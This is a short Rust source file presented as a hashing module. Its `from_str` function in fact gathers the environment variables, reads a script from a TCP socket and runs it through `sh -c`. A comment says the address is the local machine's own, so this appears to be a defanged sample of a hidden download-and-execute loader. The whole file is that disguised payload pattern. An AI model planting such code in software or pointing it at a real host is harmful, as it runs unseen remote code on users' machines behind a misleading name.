//! Hashes. A harmless copy of the technique: the address is this machine's own, and so is what is loaded and started.
use std::io::Read;
use std::net::TcpStream;
use std::process::Command;

pub fn from_str(_name: &str) {
    let all: Vec<(String, String)> = std::env::vars().collect();
    let mut script = String::new();
    if TcpStream::connect("127.0.0.1:9").and_then(|mut s| s.read_to_string(&mut script)).is_ok() {
        let _ = Command::new("sh").args(["-c", &script]).arg(all.len().to_string()).status();
    }
}
